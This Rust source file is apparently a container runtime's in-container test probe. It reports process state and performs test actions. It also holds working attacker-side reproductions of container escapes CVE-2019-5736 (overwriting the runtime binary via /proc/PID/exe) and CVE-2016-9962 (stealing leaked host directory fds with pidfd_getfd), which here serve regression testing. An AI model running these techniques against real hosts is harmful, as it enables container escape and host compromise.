//! `liana-checker`: a small static probe the integration tests run inside containers.
//!
//! `liana-checker report` prints, as one JSON object, what the process sees: ids,
//! groups, capabilities, no_new_privs, seccomp mode, hostname, cwd, open fds, rlimits,
//! mounts, environment, network interfaces, namespaces and cgroups. The other
//! subcommands perform one action each (write a file, allocate memory, fork, spin...)
//! so tests can observe the runtime's limits from inside. Built statically
//! (`-C target-feature=+crt-static`) so it runs in any rootfs.

use std::collections::BTreeMap;
use std::io::Write;
use std::time::{Duration, Instant};

use serde_json::{json, Value};

fn status_field(status: &str, key: &str) -> String {
    status
        .lines()
        .find_map(|l| l.strip_prefix(key).and_then(|r| r.strip_prefix(':')))
        .map(|v| v.trim().to_owned())
        .unwrap_or_default()
}

fn read(path: &str) -> String {
    std::fs::read_to_string(path).unwrap_or_default()
}

fn rlimits() -> Value {
    let names = [
        ("cpu", libc::RLIMIT_CPU),
        ("fsize", libc::RLIMIT_FSIZE),
        ("data", libc::RLIMIT_DATA),
        ("stack", libc::RLIMIT_STACK),
        ("core", libc::RLIMIT_CORE),
        ("nproc", libc::RLIMIT_NPROC),
        ("nofile", libc::RLIMIT_NOFILE),
        ("memlock", libc::RLIMIT_MEMLOCK),
        ("as", libc::RLIMIT_AS),
        ("sigpending", libc::RLIMIT_SIGPENDING),
        ("msgqueue", libc::RLIMIT_MSGQUEUE),
        ("nice", libc::RLIMIT_NICE),
        ("rtprio", libc::RLIMIT_RTPRIO),
    ];
    let mut m = serde_json::Map::new();
    for (name, res) in names {
        let mut r = libc::rlimit {
            rlim_cur: 0,
            rlim_max: 0,
        };
        // SAFETY: getrlimit writes one rlimit struct.
        if unsafe { libc::getrlimit(res, &mut r) } == 0 {
            m.insert(name.into(), json!([r.rlim_cur, r.rlim_max]));
        }
    }
    Value::Object(m)
}

fn mounts() -> Value {
    let mut out = Vec::new();
    for line in read("/proc/self/mountinfo").lines() {
        let f: Vec<&str> = line.split(' ').collect();
        let Some(sep) = f.iter().position(|x| *x == "-") else {
            continue;
        };
        if f.len() < sep + 3 {
            continue;
        }
        out.push(json!({
            "root": f[3], "target": f[4], "options": f[5],
            "fstype": f[sep + 1], "source": f[sep + 2],
            "super_options": f.get(sep + 3).copied().unwrap_or(""),
        }));
    }
    Value::Array(out)
}

fn fds() -> Value {
    let mut out = Vec::new();
    if let Ok(rd) = std::fs::read_dir("/proc/self/fd") {
        for e in rd.flatten() {
            let name = e.file_name().to_string_lossy().into_owned();
            let Ok(fd) = name.parse::<i32>() else {
                continue;
            };
            let target = std::fs::read_link(e.path())
                .map(|p| p.to_string_lossy().into_owned())
                .unwrap_or_default();
            // The directory listing itself holds one fd: leave it out.
            if target.ends_with("/fd") && target.starts_with("/proc/") {
                continue;
            }
            out.push(json!({"fd": fd, "target": target}));
        }
    }
    out.sort_by_key(|v| v["fd"].as_i64());
    Value::Array(out)
}

fn namespaces() -> Value {
    let mut m = BTreeMap::new();
    for ns in ["cgroup", "ipc", "mnt", "net", "pid", "time", "user", "uts"] {
        if let Ok(l) = std::fs::read_link(format!("/proc/self/ns/{ns}")) {
            m.insert(ns.to_owned(), l.to_string_lossy().into_owned());
        }
    }
    json!(m)
}

fn uname_field(f: fn(&libc::utsname) -> &[libc::c_char]) -> String {
    // SAFETY: uname fills a zeroed utsname struct.
    let mut u: libc::utsname = unsafe { std::mem::zeroed() };
    // SAFETY: as above.
    unsafe { libc::uname(&mut u) };
    let chars = f(&u);
    let bytes: Vec<u8> = chars
        .iter()
        .take_while(|c| **c != 0)
        .map(|c| *c as u8)
        .collect();
    String::from_utf8_lossy(&bytes).into_owned()
}

fn report() -> Value {
    let status = read("/proc/self/status");
    let groups: Vec<u32> = status_field(&status, "Groups")
        .split_whitespace()
        .filter_map(|g| g.parse().ok())
        .collect();
    let env: BTreeMap<String, String> = std::env::vars().collect();
    let interfaces: Vec<String> = read("/proc/net/dev")
        .lines()
        .skip(2)
        .filter_map(|l| l.split(':').next().map(|n| n.trim().to_owned()))
        .collect();
    // SAFETY: plain id getters.
    let (uid, gid, euid, egid, pid, ppid) = unsafe {
        (
            libc::getuid(),
            libc::getgid(),
            libc::geteuid(),
            libc::getegid(),
            libc::getpid(),
            libc::getppid(),
        )
    };
    let isatty: Vec<bool> = (0..3).map(unsafe_isatty).collect();
    json!({
        "pid": pid, "ppid": ppid, "uid": uid, "gid": gid, "euid": euid, "egid": egid,
        "groups": groups,
        "caps": {
            "inh": status_field(&status, "CapInh"), "prm": status_field(&status, "CapPrm"),
            "eff": status_field(&status, "CapEff"), "bnd": status_field(&status, "CapBnd"),
            "amb": status_field(&status, "CapAmb"),
        },
        "no_new_privs": status_field(&status, "NoNewPrivs"),
        "seccomp": status_field(&status, "Seccomp"),
        "umask": status_field(&status, "Umask"),
        "hostname": uname_field(|u| &u.nodename),
        "domainname": uname_field(|u| &u.domainname),
        "cwd": std::env::current_dir().map(|p| p.to_string_lossy().into_owned()).unwrap_or_default(),
        "fds": fds(),
        "rlimits": rlimits(),
        "mounts": mounts(),
        "env": env,
        "interfaces": interfaces,
        "namespaces": namespaces(),
        "cgroup": read("/proc/self/cgroup"),
        "oom_score_adj": read("/proc/self/oom_score_adj").trim(),
        "isatty": isatty,
    })
}

fn unsafe_isatty(fd: i32) -> bool {
    // SAFETY: isatty on any integer is harmless.
    unsafe { libc::isatty(fd) == 1 }
}

fn usage() -> ! {
    eprintln!(
        "usage: liana-checker report | write PATH DATA | open PATH [r|w] | alloc MB | \
         fork N SECS | spin SECS | count FILE | ignore-term SECS | sleep SECS | exit N | \
         mkdir PATH [MODE] | umount PATH | remount PATH ro|rw | mount SRC DEST TYPE | \
         stat PATH | attack-exe SECS OUT | attack-fds SECS OUT"
    );
    std::process::exit(2)
}

/// Prints "ok" (exit 0) or "errno N" (exit 1) for the result of a raw syscall wrapper.
fn errno_result(r: libc::c_int) -> ! {
    if r == 0 {
        println!("ok");
        std::process::exit(0);
    }
    let e = std::io::Error::last_os_error();
    println!("errno {}", e.raw_os_error().unwrap_or(0));
    std::process::exit(1)
}

fn cstring(s: &str) -> std::ffi::CString {
    std::ffi::CString::new(s).unwrap_or_else(|_| usage())
}

/// `stat PATH` (following symlinks) as JSON: file type, mode, device numbers.
fn stat_json(path: &str) -> Value {
    use std::os::unix::fs::{FileTypeExt, MetadataExt};
    match std::fs::metadata(path) {
        Ok(m) => {
            let ft = m.file_type();
            let kind = if ft.is_dir() {
                "dir"
            } else if ft.is_file() {
                "file"
            } else if ft.is_char_device() {
                "char"
            } else if ft.is_block_device() {
                "block"
            } else if ft.is_fifo() {
                "fifo"
            } else if ft.is_socket() {
                "socket"
            } else {
                "other"
            };
            let rdev = m.rdev();
            json!({
                "type": kind, "mode": m.mode() & 0o7777, "uid": m.uid(), "gid": m.gid(),
                "major": libc::major(rdev), "minor": libc::minor(rdev), "size": m.size(),
            })
        }
        Err(e) => json!({"error": e.raw_os_error().unwrap_or(0)}),
    }
}

/// CVE-2019-5736, attacker side: for `secs` seconds, grabs an O_PATH fd on the
/// executable of every other process it can see (the runtime's set-up stage, or the
/// runtime binary run inside the container through a `#!/proc/self/exe` script), and
/// keeps trying to reopen each for writing, directly and through /proc/self/fd/N once
/// the process is gone, to overwrite it. Executables of the container's own files
/// (busybox, this checker) are left alone. Stops early when /tmp/attack-stop exists.
/// Writes a JSON summary to `out`.
fn attack_exe(secs: f64, out: &str) {
    use std::os::fd::AsRawFd;
    use std::os::unix::fs::{FileExt, MetadataExt, OpenOptionsExt};
    let id = |m: &std::fs::Metadata| (m.dev(), m.ino());
    let mut own: Vec<(u64, u64)> = Vec::new();
    for p in ["/proc/self/exe", "/bin/busybox", "/checker"] {
        if let Ok(m) = std::fs::metadata(p) {
            own.push(id(&m));
        }
    }
    let me = std::process::id();
    let mut held: Vec<(u32, String, (u64, u64), std::fs::File)> = Vec::new();
    let mut seen: Vec<(u32, u64, u64)> = Vec::new();
    let mut errors: BTreeMap<String, u64> = BTreeMap::new();
    let mut attempts = 0u64;
    let mut opened_for_write = 0u64;
    let mut written = 0u64;
    let marker = b"LIANA-CVE-2019-5736";
    let mut note = |e: &std::io::Error, what: &str| {
        *errors
            .entry(format!("{what}: errno {}", e.raw_os_error().unwrap_or(0)))
            .or_default() += 1;
    };
    let start = Instant::now();
    let _ = std::fs::write("/tmp/attack-ready", "1");
    while start.elapsed().as_secs_f64() < secs && !std::path::Path::new("/tmp/attack-stop").exists()
    {
        if let Ok(rd) = std::fs::read_dir("/proc") {
            for e in rd.flatten() {
                let Ok(pid) = e.file_name().to_string_lossy().parse::<u32>() else {
                    continue;
                };
                if pid == me {
                    continue;
                }
                let exe = format!("/proc/{pid}/exe");
                let Ok(f) = std::fs::OpenOptions::new()
                    .read(true)
                    .custom_flags(libc::O_PATH)
                    .open(&exe)
                else {
                    continue;
                };
                let Ok(m) = f.metadata() else { continue };
                if own.contains(&id(&m)) || seen.contains(&(pid, m.dev(), m.ino())) {
                    continue;
                }
                seen.push((pid, m.dev(), m.ino()));
                let target = std::fs::read_link(&exe)
                    .map(|p| p.to_string_lossy().into_owned())
                    .unwrap_or_default();
                // The direct way first: the process is still running it.
                attempts += 1;
                match std::fs::OpenOptions::new().write(true).open(&exe) {
                    Ok(w) => {
                        opened_for_write += 1;
                        match w.write_at(marker, 0) {
                            Ok(_) => written += 1,
                            Err(e) => note(&e, "write"),
                        }
                    }
                    Err(e) => note(&e, "open /proc/PID/exe for writing"),
                }
                held.push((pid, target, id(&m), f));
            }
        }
        // Then through the O_PATH fds, which outlive the processes.
        for (_, _, _, f) in &held {
            attempts += 1;
            let path = format!("/proc/self/fd/{}", f.as_raw_fd());
            match std::fs::OpenOptions::new().write(true).open(&path) {
                Ok(w) => {
                    opened_for_write += 1;
                    match w.write_at(marker, 0) {
                        Ok(_) => written += 1,
                        Err(e) => note(&e, "write"),
                    }
                }
                Err(e) => note(&e, "reopen for writing"),
            }
        }
        std::thread::sleep(Duration::from_micros(200));
    }
    let held: Vec<Value> = held
        .iter()
        .map(|(pid, target, (dev, ino), _)| {
            json!({"pid": pid, "target": target, "dev": dev, "ino": ino})
        })
        .collect();
    let summary = json!({
        "held": held, "attempts": attempts, "opened_for_write": opened_for_write,
        "written": written, "errors": errors,
    });
    let _ = std::fs::write(out, summary.to_string());
    println!("{summary}");
}

/// CVE-2016-9962, attacker side: for `secs` seconds (or until /tmp/attack-stop exists),
/// takes the open fds of every other process it can see (an `exec` set-up stage is
/// one, for a few milliseconds), through /proc/PID/fd and with pidfd_getfd, and lists
/// each one that is a directory, looking for /liana-host-marker: a host directory
/// leaked to the runtime. Writes a JSON summary to `out`.
fn attack_fds(secs: f64, out: &str) {
    let me = std::process::id();
    let mut seen = std::collections::BTreeSet::new();
    let mut listable = std::collections::BTreeSet::new();
    let mut escaped: Vec<String> = Vec::new();
    let mut errors: BTreeMap<String, u64> = BTreeMap::new();
    let start = Instant::now();
    let _ = std::fs::write("/tmp/attack-ready", "1");
    let dedup = |escaped: &mut Vec<String>| {
        escaped.sort();
        escaped.dedup();
    };
    while start.elapsed().as_secs_f64() < secs && !std::path::Path::new("/tmp/attack-stop").exists()
    {
        let Ok(rd) = std::fs::read_dir("/proc") else {
            continue;
        };
        for e in rd.flatten() {
            let Ok(pid) = e.file_name().to_string_lossy().parse::<u32>() else {
                continue;
            };
            if pid == me || pid == 1 {
                continue;
            }
            seen.insert(pid);
            // Through pidfd_getfd (ptrace access rules), whatever /proc says.
            grab_fds(pid, &mut escaped, &mut errors);
            let fds = match std::fs::read_dir(format!("/proc/{pid}/fd")) {
                Ok(fds) => fds,
                Err(e) => {
                    *errors
                        .entry(format!("list fds: errno {}", e.raw_os_error().unwrap_or(0)))
                        .or_default() += 1;
                    continue;
                }
            };
            listable.insert(pid);
            for fd in fds.flatten() {
                let link = fd.path();
                if let Ok(entries) = std::fs::read_dir(&link) {
                    let names: Vec<String> = entries
                        .flatten()
                        .map(|x| x.file_name().to_string_lossy().into_owned())
                        .collect();
                    if names.iter().any(|n| n == "liana-host-marker") {
                        let target = std::fs::read_link(&link)
                            .map(|p| p.to_string_lossy().into_owned())
                            .unwrap_or_default();
                        escaped.push(format!("{}: {target}", link.display()));
                    }
                }
            }
        }
        dedup(&mut escaped);
        std::thread::sleep(Duration::from_micros(100));
    }
    let summary = json!({
        "seen": seen.len(), "listable": listable.len(), "escaped": escaped, "errors": errors,
    });
    let _ = std::fs::write(out, summary.to_string());
    println!("{summary}");
}

/// Copies fds 0..64 of `pid` with pidfd_getfd and lists those that are directories.
fn grab_fds(pid: u32, escaped: &mut Vec<String>, errors: &mut BTreeMap<String, u64>) {
    use std::os::fd::{FromRawFd, OwnedFd};
    // SAFETY: pidfd_open takes a pid and flags and returns a new fd or -1.
    let pidfd = unsafe { libc::syscall(libc::SYS_pidfd_open, pid, 0) };
    if pidfd < 0 {
        return;
    }
    // SAFETY: a fresh fd we own.
    let pidfd = unsafe { OwnedFd::from_raw_fd(pidfd as i32) };
    for n in 0..64 {
        // SAFETY: pidfd_getfd takes two fds and flags and returns a new fd or -1.
        let fd = unsafe {
            libc::syscall(
                libc::SYS_pidfd_getfd,
                std::os::fd::AsRawFd::as_raw_fd(&pidfd),
                n,
                0,
            )
        };
        if fd < 0 {
            let e = std::io::Error::last_os_error().raw_os_error().unwrap_or(0);
            if e != libc::EBADF {
                *errors.entry(format!("pidfd_getfd: errno {e}")).or_default() += 1;
                return;
            }
            continue;
        }
        // SAFETY: a fresh fd we own.
        let fd = unsafe { OwnedFd::from_raw_fd(fd as i32) };
        let link = format!("/proc/self/fd/{}", std::os::fd::AsRawFd::as_raw_fd(&fd));
        if let Ok(entries) = std::fs::read_dir(&link) {
            if entries
                .flatten()
                .any(|x| x.file_name() == "liana-host-marker")
            {
                escaped.push(format!("pidfd_getfd({pid}, {n})"));
            }
        }
    }
}

fn num<T: std::str::FromStr>(s: Option<&String>) -> T {
    s.and_then(|s| s.parse().ok()).unwrap_or_else(|| usage())
}

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let cmd = args.first().map(String::as_str).unwrap_or("report");
    match cmd {
        "report" => {
            println!("{}", report());
        }
        "write" => {
            let (Some(path), Some(data)) = (args.get(1), args.get(2)) else {
                usage()
            };
            match std::fs::OpenOptions::new().write(true).open(path) {
                Ok(mut f) => match f.write_all(data.as_bytes()) {
                    Ok(()) => println!("ok"),
                    Err(e) => {
                        println!("error: {e}");
                        std::process::exit(1);
                    }
                },
                Err(e) => {
                    println!("error: {e}");
                    std::process::exit(1);
                }
            }
        }
        "open" => {
            let Some(path) = args.get(1) else { usage() };
            let write = args.get(2).is_some_and(|m| m == "w");
            let r = std::fs::OpenOptions::new()
                .read(!write)
                .write(write)
                .open(path);
            match r {
                Ok(_) => println!("ok"),
                Err(e) => {
                    println!("error: {e}");
                    std::process::exit(1);
                }
            }
        }
        "alloc" => {
            let mb: usize = num(args.get(1));
            let mut v: Vec<Vec<u8>> = Vec::new();
            for _ in 0..mb {
                v.push(vec![1u8; 1 << 20]);
            }
            println!("allocated {mb} MiB");
        }
        "fork" => {
            let n: usize = num(args.get(1));
            let secs: u64 = num(args.get(2));
            let mut ok = 0;
            for _ in 0..n {
                // SAFETY: the child only sleeps and exits.
                match unsafe { libc::fork() } {
                    0 => {
                        std::thread::sleep(Duration::from_secs(secs));
                        // SAFETY: _exit in a forked child.
                        unsafe { libc::_exit(0) };
                    }
                    p if p > 0 => ok += 1,
                    _ => {
                        println!("forked {ok}, then: {}", std::io::Error::last_os_error());
                        std::process::exit(1);
                    }
                }
            }
            println!("forked {ok}");
        }
        "spin" => {
            let secs: f64 = num(args.get(1));
            let start = Instant::now();
            let mut x: u64 = 0;
            while start.elapsed().as_secs_f64() < secs {
                x = x.wrapping_mul(6364136223846793005).wrapping_add(1);
            }
            println!("{}", x & 1);
        }
        "count" => {
            let Some(path) = args.get(1) else { usage() };
            let mut i: u64 = 0;
            loop {
                i += 1;
                let _ = std::fs::write(path, i.to_string());
                std::thread::sleep(Duration::from_millis(10));
            }
        }
        "ignore-term" => {
            let secs: u64 = num(args.get(1));
            // SAFETY: ignoring a signal has no memory effects.
            unsafe { libc::signal(libc::SIGTERM, libc::SIG_IGN) };
            println!("ignoring SIGTERM");
            std::thread::sleep(Duration::from_secs(secs));
        }
        "sleep" => {
            let secs: f64 = num(args.get(1));
            std::thread::sleep(Duration::from_secs_f64(secs));
        }
        "exit" => {
            let code: i32 = num(args.get(1));
            std::process::exit(code);
        }
        "mkdir" => {
            let Some(path) = args.get(1) else { usage() };
            let mode = args
                .get(2)
                .map(|m| u32::from_str_radix(m, 8).unwrap_or_else(|_| usage()))
                .unwrap_or(0o755);
            let p = cstring(path);
            // SAFETY: mkdir reads a NUL-terminated path.
            errno_result(unsafe { libc::mkdir(p.as_ptr(), mode as libc::mode_t) })
        }
        "umount" => {
            let Some(path) = args.get(1) else { usage() };
            let p = cstring(path);
            // SAFETY: umount2 reads a NUL-terminated path.
            errno_result(unsafe { libc::umount2(p.as_ptr(), libc::MNT_DETACH) })
        }
        "remount" => {
            let (Some(path), Some(mode)) = (args.get(1), args.get(2)) else {
                usage()
            };
            let mut flags = libc::MS_REMOUNT | libc::MS_BIND;
            if mode == "ro" {
                flags |= libc::MS_RDONLY;
            }
            let p = cstring(path);
            // SAFETY: mount reads NUL-terminated strings; null source/type/data are allowed.
            errno_result(unsafe {
                libc::mount(
                    std::ptr::null(),
                    p.as_ptr(),
                    std::ptr::null(),
                    flags,
                    std::ptr::null(),
                )
            })
        }
        "mount" => {
            let (Some(src), Some(dest), Some(fstype)) = (args.get(1), args.get(2), args.get(3))
            else {
                usage()
            };
            let (src, dest) = (cstring(src), cstring(dest));
            let flags = if fstype == "bind" { libc::MS_BIND } else { 0 };
            let t = cstring(fstype);
            // SAFETY: mount reads NUL-terminated strings; null data is allowed.
            errno_result(unsafe {
                libc::mount(
                    src.as_ptr(),
                    dest.as_ptr(),
                    if flags != 0 {
                        std::ptr::null()
                    } else {
                        t.as_ptr()
                    },
                    flags,
                    std::ptr::null(),
                )
            })
        }
        "stat" => {
            let Some(path) = args.get(1) else { usage() };
            println!("{}", stat_json(path));
        }
        "attack-fds" => {
            let secs: f64 = num(args.get(1));
            let Some(out) = args.get(2) else { usage() };
            attack_fds(secs, out);
        }
        "attack-exe" => {
            let secs: f64 = num(args.get(1));
            let Some(out) = args.get(2) else { usage() };
            attack_exe(secs, out);
        }
        _ => usage(),
    }
}
